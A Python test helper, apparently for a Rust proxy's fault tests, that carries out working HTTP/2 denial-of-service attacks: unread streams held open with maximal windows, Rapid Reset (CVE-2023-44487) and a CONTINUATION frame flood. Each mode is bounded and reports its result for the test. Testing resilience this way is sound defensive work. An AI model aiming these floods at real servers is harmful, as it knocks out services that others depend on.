"""HTTP/2 abuse against a TLS listener, for tests/faults.rs. Every mode stops by itself.

    h2_abuse.py unread HOST PORT CONNS STREAMS PATH
        opens CONNS connections with the largest flow-control windows, asks for STREAMS
        responses on each and never reads them; prints "holding" and holds until stdin closes
        (at most 60 s).
    h2_abuse.py rapid_reset HOST PORT N
        opens and at once resets N streams on one connection (CVE-2023-44487); prints how the
        connection ended.
    h2_abuse.py continuation HOST PORT FRAMES
        sends one HEADERS frame without END_HEADERS, then up to FRAMES CONTINUATION frames of
        16 KiB (CVE-2024-27316 style); prints how many were sent before the server stopped it.

Output is one line of `key=value` pairs that the Rust test parses.
"""

import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame

MAX_WINDOW = 2**31 - 1


def connect(host, port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=10)
    # A small receive buffer: the kernel holds little for us, so the proxy holds the rest.
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    return s, conn


def request_headers(port, path):
    return [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", f"localhost:{port}"),
        (":path", path),
    ]


def unread(host, port, conns, streams, path):
    held = []
    for _ in range(conns):
        s, conn = connect(host, port)
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: MAX_WINDOW})
        conn.increment_flow_control_window(MAX_WINDOW - 65535)
        for i in range(streams):
            conn.send_headers(1 + 2 * i, request_headers(port, path), end_stream=True)
        s.sendall(conn.data_to_send())
        held.append(s)
    print("holding", flush=True)
    # Never read: the proxy must hold the responses back, not buffer them.
    select.select([sys.stdin], [], [], 60)
    for s in held:
        s.close()
    print("released", flush=True)


def ended(s, conn, within):
    """Reads until the server ends the connection or `within` seconds pass."""
    deadline = time.monotonic() + within
    goaway = None
    while time.monotonic() < deadline:
        s.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            data = s.recv(65536)
        except (socket.timeout, TimeoutError):
            break
        except (ssl.SSLError, OSError):
            return "reset", goaway
        if not data:
            return "closed", goaway
        try:
            events = conn.receive_data(data)
        except Exception:
            return "protocol_error", goaway
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                goaway = e.error_code.name if hasattr(e.error_code, "name") else str(e.error_code)
        try:
            s.sendall(conn.data_to_send())
        except (ssl.SSLError, OSError):
            return "reset", goaway
    return "open", goaway


def rapid_reset(host, port, n):
    s, conn = connect(host, port)
    sent = 0
    goaway = None
    try:
        for i in range(n):
            sid = 1 + 2 * i
            conn.send_headers(sid, request_headers(port, "/reset/"), end_stream=True)
            conn.reset_stream(sid)
            s.sendall(conn.data_to_send())
            sent += 1
            # Read what the server says as we go, so that its GOAWAY is seen before its close.
            while s.pending() or select.select([s], [], [], 0)[0]:
                data = s.recv(65536)
                if not data:
                    raise ConnectionError("closed")
                for e in conn.receive_data(data):
                    if isinstance(e, h2.events.ConnectionTerminated):
                        goaway = e.error_code.name
            if goaway:
                break
    except Exception:
        pass
    how, later = ended(s, conn, 5)
    goaway = goaway or later
    print(f"sent={sent} end={how} goaway={goaway}", flush=True)


def continuation(host, port, frames):
    s, conn = connect(host, port)
    s.sendall(conn.data_to_send())
    block = conn.encoder.encode(request_headers(port, "/cont/"))
    s.sendall(HeadersFrame(1, data=block, flags=["END_STREAM"]).serialize())
    # Literal header fields without indexing, 16 KiB per frame, never END_HEADERS.
    name = b"x-flood"
    value = b"v" * 100
    field = b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
    payload = field * (16000 // len(field))
    sent = 0
    try:
        for _ in range(frames):
            s.sendall(ContinuationFrame(1, data=payload).serialize())
            sent += 1
    except (ssl.SSLError, OSError):
        pass
    how, goaway = ended(s, conn, 5)
    print(f"sent={sent} end={how} goaway={goaway}", flush=True)


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if mode == "unread":
        unread(host, port, int(sys.argv[4]), int(sys.argv[5]), sys.argv[6])
    elif mode == "rapid_reset":
        rapid_reset(host, port, int(sys.argv[4]))
    elif mode == "continuation":
        continuation(host, port, int(sys.argv[4]))
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
